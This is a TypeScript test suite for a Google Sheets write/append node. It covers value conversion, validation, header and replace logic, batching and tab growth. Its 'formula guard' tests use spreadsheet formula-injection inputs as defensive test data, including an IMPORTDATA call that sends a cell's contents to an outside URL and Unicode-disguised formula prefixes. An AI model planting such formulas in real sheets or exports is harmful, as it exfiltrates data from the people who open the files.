import type { sheets_v4 } from 'googleapis/build/src/apis/sheets/v4';
import { DateTime } from 'luxon';
import type { IDataObject } from 'n8n-workflow';

import { isNodeError } from '../../../../nodes/core/errors';
import { isNumberText } from '../../../../nodes/Workspace/actions/spreadsheet/cells';
import { expectLinear } from '../../../growth';
import { testItem } from '../../client';
import { changed, grid, SheetCalls } from './sheetCalls';

const calls = new SheetCalls();
const noFit = "Row 1, column 1 of 'values' does not fit in a cell";

test('rows are one PUT, stored as they stand', async () => {
	const spreadsheetId = calls.sheet();
	const values = grid(['=1+1', '007', '1/2'], [7, true, '-5']);
	const written = await calls.one('write', { spreadsheetId, range: 'Sheet1!B2', values });
	expect(written).toEqual(changed(spreadsheetId, 'B2:D3', 2, 3, 6));
	expect(calls.sent.at(-1)).toEqual({
		method: 'values.update',
		path: `/v4/spreadsheets/${spreadsheetId}/values/Sheet1!B2`,
		query: { valueInputOption: 'RAW' },
		body: { values },
	});
	expect(calls.stored(spreadsheetId, 'Sheet1!B2:D3')).toEqual(values);
});

test('null leaves a cell, "" clears it', async () => {
	const { stored } = await calls.change('write', [['a', 'b', 'c']], {
		range: 'Sheet1',
		values: [[null, '', 'z']],
	});
	expect(stored).toEqual([['a', '', 'z']]);
});

describe.each(['write', 'append'] as const)('%s', (name) => {
	test('makes texts of arrays, objects and dates', async () => {
		const day = new Date('2026-03-01T12:00:00+02:00');
		const luxon = DateTime.fromJSDate(day, { zone: 'utc' });
		const lists = [['INBOX', 'UNREAD'], [1, null, true, day], []];
		const values = [[...lists, { a: [1] }, [{ a: 1 }, [2]], day, luxon]];
		const { stored } = await calls.change(name, [], { range: 'Sheet1', values });
		const iso = '2026-03-01T10:00:00.000Z';
		const texts = ['INBOX, UNREAD', `1, , true, ${iso}`, '', '{"a":[1]}', '[{"a":1},[2]]'];
		expect(stored).toEqual([[...texts, iso, iso]]);
	});

	test('refuses an object that holds itself', async () => {
		const round: { self?: unknown } = {};
		round.self = round;
		const given = { spreadsheetId: 'x', range: 'Sheet1', values: [[round]] };
		expect((await calls.refusal(name, given)).message).toBe(noFit);
	});
});

test('a cell holds 50,000 characters, and a hole of a sparse array nothing', async () => {
	const text = 'x'.repeat(50_000);
	const values = [Object.assign(Array<unknown>(3), [text])];
	const given = { range: 'Sheet1', values };
	const { told, stored } = await calls.change('write', [['a', 'b', 'c']], given);
	expect(told).toMatchObject([{ updatedCells: 1 }]);
	expect(stored).toEqual([[text, 'b', 'c']]);
});

test.each<[string, unknown[], string]>([
	['not a number', [[NaN]], noFit],
	['no date', [[new Date(NaN)]], noFit],
	['a function', [[() => 1]], noFit],
	['empty rows and objects', [[], { a: 1 }], "'values' mixes rows of cells with objects"],
	['a long text', [['x'.repeat(50_001)]], noFit],
	['nothing', [], "'values' has no cells"],
	['empty rows', [[], []], "'values' has no cells"],
])('refused before anything is sent: %s', async (_, values, message) => {
	const failure = await calls.refusal('write', { spreadsheetId: 'x', values });
	expect(failure).toMatchObject({ code: 400, status: 'INVALID_ARGUMENT', message });
	expect(failure.description).toBeTruthy();
});

test('past an area: Google says no, and what to do is said', async () => {
	const given = { spreadsheetId: calls.sheet(), range: 'Sheet1!A1:B1', values: [['a'], ['b']] };
	const failure = await calls.failure('write', given);
	expect(failure.code).toBe(400);
	expect(failure.message).toMatch(/tried writing to row/);
	expect(failure.description).toContain('To write below the last row, use Append');
});

describe('the formula guard', () => {
	const write = async (cells: unknown[], more = {}) => {
		const typed = { range: 'Sheet1', valueInputOption: 'USER_ENTERED', ...more };
		await calls.one('write', { spreadsheetId: calls.sheet(), values: [cells], ...typed });
		return (calls.sent.at(-1)?.body as { values: unknown[][] }).values[0];
	};

	const formulas = ['=1+1', '=IMPORTDATA("https://example.com?"&A1)', '+A1', '-A1', '-1+2'];
	const signs = ['@SUM(A1)', '-', '+', '+.5%', '-.5'];
	const wideSigns = ['＝1+1', '＋A1', '－A1', '＠SUM(A1)', '﹦1+1', '﹢A1', '﹣A1', '﹫x'];
	const afterBlanks = ['\t=1', '\r=1', '\n=1', ' =1', '\u00A0=1', '\u3000+A1', '\u2028@x'];
	const afterNothing = ['\uFEFF=1', '\u200B=1', '\u034F=1', '\uFE0F=1', '\u{E0100}=1'];
	const afterFillers = ['\u115F=1', '\u2800=1', '\u3164=1', '\uFFA0 \uFEFF=1'];
	const afterControls = ['\u0000=1', '\u0085=1', '\uD800=1'];
	const phones = ['+49.30.1234567', '+49 30 1234567', '+1.234.567.8', '+4930.123.456'];
	const noNumbers = ['+1.2.3.4', '+1.234,567.890', '-1,234,5'];

	test.each([
		...[...formulas, ...signs, ...wideSigns, ...afterBlanks, ...afterNothing],
		...[...afterFillers, ...afterControls, ...phones, ...noNumbers],
	])('%j gets an apostrophe', async (text) => {
		expect(await write([text])).toEqual([`'${text}`]);
	});

	const grouped = ['-1,234.50', '-1.234.567,8', '-1,234,567.8', '+1.234.567'];
	const numbers = ['-5', '+1.5', '-12345.678', ' -5', '+1e5', '-12%', '5'];

	test.each([...grouped, ...numbers, 'a=b', '', "'=1"])('%j stays as it is', async (text) => {
		expect(await write([text])).toEqual([text]);
	});

	test('whether a text is a number is found in the time of its length', () => {
		expectLinear('1', (text) => `${text}x`, isNumberText);
	});

	test.each<[string, unknown[], object]>([
		['numbers and booleans', [-5, true, null], {}],
		['a formula if the guard is off', ['=1+1'], { escapeFormulas: false }],
		['what is RAW', ['=1+1'], { valueInputOption: 'RAW' }],
	])('%s stays as it is', async (_name, cells, more) => {
		expect(await write(cells, more)).toEqual(cells);
	});
});

describe('input items', () => {
	const place = { range: 'Sheet1!B2', headerRow: 2 };
	const write = async (rows: unknown[][], given: object, ...all: IDataObject[]) =>
		await calls.change('write', rows, given, ...all);

	test('are one block below a new header, columns in order of first appearance', async () => {
		const all = [{ a: 1, b: 'x' }, { b: 'y', c: true }, { a: null }];
		const { spreadsheetId, told, stored } = await write([], place, ...all);
		expect(calls.methods).toEqual(['get', 'batchUpdate']);
		const table = grid(['', 'a', 'b', 'c'], ['', 1, 'x'], ['', '', 'y', true]);
		expect(stored).toEqual([[], ...table]);
		expect(told).toEqual([
			changed(spreadsheetId, 'B3:C3', 1, 2, 2),
			expect.objectContaining({ updatedRange: 'Sheet1!C4:D4', updatedCells: 2 }),
			expect.objectContaining({ updatedRange: 'Sheet1!B5:D5', updatedCells: 0 }),
		]);
	});

	describe('where other names stand', () => {
		const header = ['Id', 'State', 'Note'];
		const table = [header, [1, 'open', 'a'], [2, 'open', 'b']];

		test('overwriting refuses names that are no columns, or adds them', async () => {
			const json = { Id: 1, More: 2 };
			const { told } = await write(table, {}, json);
			expect(told).toMatchObject([{ code: 400, message: "The table has no column 'More'" }]);
			expect(calls.writes).toEqual([]);
			const { stored } = await write(table, { extraColumns: 'add' }, json);
			expect(stored).toEqual([[...header, 'More'], [1, 'open', 'a', 2], table[2]]);
		});

		test.each([
			['A2:C3', 3, {}],
			['A1:C4', 4, {}],
			['A1:C9', 1, { More: 1 }],
			['A2:C9', 1, { More: 1 }],
		])('overwriting refuses rows beyond %s: %d with %j', async (range, count, more) => {
			const rows = [...table, [], ['Total']];
			const all = Array.from({ length: count }, () => ({ Id: 7, ...more }));
			const given = { range: `Sheet1!${range}`, extraColumns: 'add' };
			const refused = await write(rows, given, ...all);
			const message = `The rows reach beyond the range ${range}`;
			expect(refused.told.at(-1)).toMatchObject({ code: 400, message });
			expect(refused.stored).toEqual(rows);
			const { told } = await write(rows, given, { Id: 7 });
			expect(told).toMatchObject([{ updatedRange: 'Sheet1!A2' }]);
		});

		const replace = { writeMode: 'replace' };

		test.each([
			['RAW', 1],
			['USER_ENTERED', 2],
		])('replacing clears the old table: %s', async (valueInputOption, writes) => {
			const old = grid(
				header,
				[1, 'open', 'a', '', 'beside'],
				[2, 'open', 'b'],
				[],
				['', 'late'],
			);
			const given = { ...replace, valueInputOption };
			const { spreadsheetId, told, stored } = await write(old, given, {
				State: 'new',
				Id: 9,
			});
			expect(told).toEqual([changed(spreadsheetId, 'A1:B2', 2, 2, 2)]);
			expect(stored).toEqual(grid(['Id', 'State'], [9, 'new', '', '', 'beside']));
			expect(calls.writes).toHaveLength(writes);
		});

		test('the header of a replaced table is in the first row of the range', async () => {
			const old = grid([], [], ['', '', 'a', 'b'], ['', '', 1, 2], ['', '', 3, '']);
			const { told, stored } = await write(
				old,
				{ range: 'Sheet1!C3:F', ...replace },
				{ b: 5 },
			);
			expect(told).toMatchObject([{ updatedRange: 'Sheet1!C3:C4' }]);
			expect(stored).toEqual([[], [], ['', '', 'b'], ['', '', 5]]);
		});

		test('a table that is replaced by what is taken as typed finds room', async () => {
			const spreadsheetId = calls.sheet([['a']], 'Sheet1', { rowCount: 1, columnCount: 1 });
			const given = { spreadsheetId, ...replace, valueInputOption: 'USER_ENTERED' };
			const written = await calls.give('write', given, { a: '1', b: '2' }, { a: '3' });
			const ranges = written.map(({ updatedRange }) => updatedRange);
			expect(ranges).toEqual(['Sheet1!A1:B2', 'Sheet1!A3:B3']);
			expect(calls.stored(spreadsheetId)).toEqual([['a', 'b'], [1, 2], [3]]);
		});

		test('replacing in an empty tab, and with a new column', async () => {
			const spreadsheetId = calls.sheet();
			const given = { spreadsheetId, range: 'Sheet1!C3:F', headerRow: 3, ...replace };
			for (const json of [{ a: 1 }, { b: 2, a: 3 }]) await calls.give('write', given, json);
			const stored = calls.stored(spreadsheetId, 'Sheet1!C3:F9');
			expect(stored).toEqual(grid(['a', 'b'], [3, 2]));
		});
	});

	test('headers are text also where Google takes text as typed', async () => {
		const given = { valueInputOption: 'USER_ENTERED' };
		const { stored } = await write([], given, { '1/2': '=1', '=x': '5' });
		expect(stored).toEqual(grid(['1/2', '=x'], ['=1', 5]));
	});

	test.each<[IDataObject, string]>([
		[{ a: NaN }, "The input item, field 'a', does not fit in a cell"],
		[{}, 'The input item has no values for columns'],
	])('%j is refused before anything is sent', async (json, message) => {
		await expect(write([], {}, { a: 1 }, json)).rejects.toMatchObject({ message });
		expect(calls.sent).toEqual([]);
	});

	test('only items with the same target go out together, and never rows from JSON', () => {
		const given = { spreadsheetId: 'id', ...place, valuesSource: 'columns' };
		const key = (more: object) => calls.key('write', { ...given, ...more });
		expect(key({ values: undefined })).toBe(key({ range: ' Sheet1!B2' }));
		const rows = { spreadsheetId: 'id', range: 'A1', values: [[1]] };
		expect(calls.key('write', rows)).toBeUndefined();
	});

	describe('whose rows need several requests', () => {
		const giveMuch = async (rowCount = 2000) => {
			const spreadsheetId = calls.sheet([], 'Sheet1', { rowCount });
			const text = 'x'.repeat(45_000);
			const all = Array.from({ length: 100 }, (_, at) => ({ at, text }));
			const told = await calls.give('write', { spreadsheetId, ...place }, ...all);
			const numbers = calls.stored(spreadsheetId, `Sheet1!B2:B${rowCount}`).flat();
			return { told, numbers };
		};
		const upTo = (count: number) => Array.from({ length: count }, (_, at) => at);

		test('have each its place', async () => {
			const { told, numbers } = await giveMuch();
			expect(calls.methods).toEqual(['get', 'batchUpdate', 'batchUpdate', 'batchUpdate']);
			expect(told.at(-1)).toMatchObject({ updatedRange: 'Sheet1!B102:C102' });
			expect(numbers).toEqual(['at', ...upTo(100)]);
		});

		test('make the tab no longer than they need', async () => {
			await giveMuch(50);
			const added = calls.sent.flatMap(({ body }) => {
				const { requests = [] } = (body ??
					{}) as sheets_v4.Schema$BatchUpdateSpreadsheetRequest;
				return requests.flatMap(({ appendDimension }) => appendDimension?.length ?? []);
			});
			expect(added.reduce((sum, length) => sum + length, 50)).toBe(102);
		});

		test('keep their results before one that failed, and behind it nothing goes out', async () => {
			calls.google.fault({ match: 'sheets.spreadsheets.batchUpdate', status: 403, nth: 2 });
			const { told, numbers } = await giveMuch();
			expect(calls.methods).toEqual(['get', 'batchUpdate', 'batchUpdate']);
			const failed = told.findIndex(isNodeError);
			expect(failed).toBeGreaterThan(0);
			expect(numbers).toEqual(['at', ...upTo(failed)]);
			const lastRow = `Sheet1!B${failed + 2}:C${failed + 2}`;
			expect(told[failed - 1]).toMatchObject({ updatedRange: lastRow });
			expect(told[failed]).toMatchObject({ code: 403 });
			expect(told.at(-1)?.['code']).toBe(403);
			const notSent = /^Not sent, because the previous rows were not written/;
			expect(told.at(-1)?.['message']).toMatch(notSent);
		});
	});
});

describe('rows that need room', () => {
	const rows = (count: number) => Array.from({ length: count }, (_, at) => [`n${at}`, at]);

	test('1,500 rows go into a tab of 1,000: it grows when Google has refused them', async () => {
		const given = { range: 'Sheet1', values: rows(1500) };
		const { told, stored } = await calls.change('write', [], given);
		expect(told).toMatchObject([{ updatedRange: 'Sheet1!A1:B1500', updatedRows: 1500 }]);
		expect(calls.methods).toEqual(['values.update', 'get', 'batchUpdate', 'values.update']);
		expect(calls.sent[2]?.body).toEqual({
			requests: [{ appendDimension: { sheetId: 0, dimension: 'ROWS', length: 500 } }],
		});
		expect(stored).toEqual(given.values);
	});

	test('what Google refuses for another reason is not sent again', async () => {
		const spreadsheetId = calls.sheet();
		calls.google.fault({ match: 'sheets.spreadsheets.values.update', status: 400 });
		const given = { spreadsheetId, range: 'Sheet1', values: rows(2) };
		expect((await calls.failure('write', given)).code).toBe(400);
		expect(calls.methods).toEqual(['values.update', 'get']);
	});

	test('if the size of the tab cannot be read, that failure is told', async () => {
		const spreadsheetId = calls.sheet([], 'Sheet1', { rowCount: 1 });
		calls.google.fault({ match: 'sheets.spreadsheets.get', status: 403 });
		const given = { spreadsheetId, range: 'Sheet1', values: rows(2) };
		expect((await calls.failure('write', given)).code).toBe(403);
	});

	test.each([
		['Sheet1!A1:B2', { rowCount: 1 }, 2, 2],
		['Sheet1!A1:B2', { columnCount: 1 }, 2, 2],
		['Sheet1!C1', { columnCount: 3 }, 1, 2],
		['Sheet1!A2', { rowCount: 2 }, 2, 1],
		['Sheet1!A5', { rowCount: 2 }, 2, 1],
		['Sheet1!AD3', { columnCount: 3 }, 1, 2],
	])('the tab grows as far as %s allows: %j', async (range, size, height, width) => {
		const spreadsheetId = calls.sheet([], 'Sheet1', size);
		const values = Array.from({ length: height }, () => Array<string>(width).fill('x'));
		await calls.one('write', { spreadsheetId, range, values });
		expect(calls.methods).toEqual(['values.update', 'get', 'batchUpdate', 'values.update']);
	});

	test.each([
		['columns', { valuesSource: 'columns', columns: { Name: 'Anna', New: 'x' } }],
		['json', { values: [{ Name: 'Anna', New: 'x' }] }],
		['items', { valuesSource: 'columns' }],
		['items, update', { valuesSource: 'columns', matchColumns: 'Name' }],
		['items, replace', { valuesSource: 'columns', writeMode: 'replace' }],
	])('a tab that has nothing but its header row gets the row: %s', async (_, given) => {
		const spreadsheetId = calls.sheet([['Name']], 'Sheet1', { rowCount: 1, columnCount: 1 });
		const params = { spreadsheetId, extraColumns: 'add', ...given };
		const item = testItem({ json: { Name: 'Anna', New: 'x' } });
		const written = await calls.one('write', params, item);
		expect(written['updatedRange']).toMatch(/:B2$/);
		expect(calls.writes).toEqual(['batchUpdate']);
		expect(calls.stored(spreadsheetId)).toEqual(grid(['Name', 'New'], ['Anna', 'x']));
	});

	test.each([
		['Sheet1!A1:B10', 20, { rowCount: 10 }],
		['Sheet1!A1:A20', 20, { columnCount: 1 }],
		['Leads', 3, { rowCount: 2 }],
	])('%s stays refused for %d rows', async (range, count, size) => {
		const namedRanges = { Leads: 'Sheet1!A1:B2' };
		const spreadsheetId = calls.book([{ title: 'Sheet1', ...size }], { namedRanges });
		const failure = await calls.failure('write', { spreadsheetId, range, values: rows(count) });
		expect(failure.code).toBe(400);
		expect(calls.methods).not.toContain('batchUpdate');
	});
});
